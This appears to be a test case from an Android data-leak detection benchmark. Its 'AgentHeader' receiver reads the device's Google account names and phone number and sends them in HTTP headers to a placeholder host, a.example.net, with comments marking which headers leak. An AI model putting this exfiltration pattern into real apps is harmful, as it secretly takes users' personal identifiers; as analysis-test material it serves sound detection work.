package stealers;

import android.accounts.*;
import android.content.*;
import android.os.Build;
import android.telephony.TelephonyManager;

import java.io.IOException;
import java.net.*;
import java.util.*;

/** Who somebody is, in the name of the browser and in a header. */
public class AgentHeader extends BroadcastReceiver {
    static String join(List<String> all, char by) {
        String out = "";
        for (Iterator<String> i = all.iterator(); i.hasNext(); ) {
            out += i.next();
            if (i.hasNext()) out += by;
        }
        return out;
    }

    @Override
    public void onReceive(final Context c, Intent i) {
        final List<String> names = new ArrayList<String>();
        for (Account a : AccountManager.get(c).getAccountsByType("com.google")) names.add(a.name);
        TelephonyManager t = (TelephonyManager) c.getSystemService(Context.TELEPHONY_SERVICE);
        final String agent = "Mozilla/5.0 (" + Build.MODEL + "; " + t.getLine1Number() + ")";
        new Thread(
                        new Runnable() {
                            public void run() {
                                try {
                                    HttpURLConnection h = (HttpURLConnection) new URL("http://a.example.net/").openConnection();
                                    h.setRequestProperty("User-Agent", agent); // leak
                                    h.addRequestProperty("X-Acc", join(names, ',')); // leak
                                    h.setRequestProperty("Accept", "*/*"); // no leak
                                    h.getResponseCode();
                                } catch (IOException e) {
                                }
                            }
                        })
                .start();
    }
}
